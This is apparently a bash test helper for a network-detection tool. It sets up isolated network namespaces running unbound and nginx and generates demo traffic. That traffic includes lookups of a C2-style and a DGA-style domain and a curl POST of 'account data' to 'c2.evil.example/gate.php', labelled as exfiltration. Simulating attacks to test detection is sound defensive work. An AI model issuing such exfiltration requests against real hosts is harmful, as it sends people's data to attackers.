# Two network namespaces, a veth pair between them, and real programs that talk over it. Sourced by
# demo/demo and by tests/live. Needs root. Names carry the shell's pid; net_down undoes everything.
# shellcheck shell=bash
net_client=selat-dc-$$
net_server=selat-ds-$$
net_client_if=selat-c
net_server_if=selat-s
net_client_ip=192.0.2.10
net_server_ip=192.0.2.53

net_up() {
    ip netns add "$net_client"
    ip netns add "$net_server"
    ip link add "$net_client_if" netns "$net_client" type veth peer name "$net_server_if" netns "$net_server"
    nsenter --net=/run/netns/"$net_client" ip addr add "$net_client_ip/24" dev "$net_client_if"
    nsenter --net=/run/netns/"$net_server" ip addr add "$net_server_ip/24" dev "$net_server_if"
    local ns
    for ns in "$net_client" "$net_server"; do
        nsenter --net=/run/netns/"$ns" ip link set lo up
    done
    nsenter --net=/run/netns/"$net_client" ip link set "$net_client_if" up
    nsenter --net=/run/netns/"$net_server" ip link set "$net_server_if" up
}

net_down() {
    local ns pids
    for ns in "$net_client" "$net_server"; do
        [ -e "/run/netns/$ns" ] || continue
        pids=$(ip netns pids "$ns" 2>/dev/null || true)
        # shellcheck disable=SC2086 # a list of numbers
        [ -z "$pids" ] || kill $pids 2>/dev/null || true
        sleep 0.2
        pids=$(ip netns pids "$ns" 2>/dev/null || true)
        # shellcheck disable=SC2086
        [ -z "$pids" ] || kill -9 $pids 2>/dev/null || true
        ip netns del "$ns" || true
    done
}

# unbound answers for evil.example and demo.example, nginx for every host. Files go below folder $1.
net_serve() {
    local dir=$1 _
    mkdir -p "$dir/www"
    echo "hello from the demo" >"$dir/www/index.html"
    chmod 755 "$dir" "$dir/www"
    cat >"$dir/unbound.conf" <<EOF
server:
  interface: $net_server_ip
  access-control: 192.0.2.0/24 allow
  chroot: ""
  username: ""
  pidfile: ""
  directory: "$dir"
  use-syslog: no
  do-daemonize: no
  local-zone: "evil.example." redirect
  local-data: "evil.example. A $net_server_ip"
  local-zone: "dga.example." redirect
  local-data: "dga.example. A $net_server_ip"
  local-zone: "demo.example." redirect
  local-data: "demo.example. A $net_server_ip"
remote-control:
  control-enable: no
EOF
    cat >"$dir/nginx.conf" <<EOF
daemon off;
pid $dir/nginx.pid;
error_log $dir/nginx.log;
events { worker_connections 64; }
http {
  access_log off;
  client_body_temp_path $dir/body;
  proxy_temp_path $dir/proxy;
  fastcgi_temp_path $dir/fastcgi;
  uwsgi_temp_path $dir/uwsgi;
  scgi_temp_path $dir/scgi;
  server {
    listen $net_server_ip:80;
    root $dir/www;
    location = /gate.php { return 200 "ok\n"; }
  }
}
EOF
    nsenter --net=/run/netns/"$net_server" unbound -d -c "$dir/unbound.conf" >"$dir/unbound.log" 2>&1 &
    nsenter --net=/run/netns/"$net_server" nginx -c "$dir/nginx.conf" >"$dir/nginx.out" 2>&1 &
    for _ in $(seq 100); do
        [ "$(nsenter --net=/run/netns/"$net_server" ss -Hltn 'sport = :80' | wc -l)" -gt 0 ] &&
            [ "$(nsenter --net=/run/netns/"$net_server" ss -Hlun 'sport = :53' | wc -l)" -gt 0 ] && return 0
        sleep 0.1
    done
    echo "net: the servers did not start" >&2
    cat "$dir"/unbound.log "$dir"/nginx.out >&2
    return 1
}

# What the client does: look-ups and requests, some of which the demo pack knows.
net_talk() {
    local name
    for name in www.demo.example c2.evil.example k3j4h5g6f7d8s9a0q1w2e3.dga.example; do
        nsenter --net=/run/netns/"$net_client" dig +tries=1 +time=2 @"$net_server_ip" "$name" A >/dev/null
    done
    local curl=(nsenter --net=/run/netns/"$net_client" curl -sS -m 5 -o /dev/null)
    "${curl[@]}" --resolve "www.demo.example:80:$net_server_ip" http://www.demo.example/
    "${curl[@]}" -A 'Mozilla/5.0 (selat-demo-bot)' --resolve "www.demo.example:80:$net_server_ip" \
        http://www.demo.example/index.html
    "${curl[@]}" --resolve "c2.evil.example:80:$net_server_ip" -d 'X-Selat-Demo-Exfil: account data' \
        'http://c2.evil.example/gate.php?id=0123abcd'
}
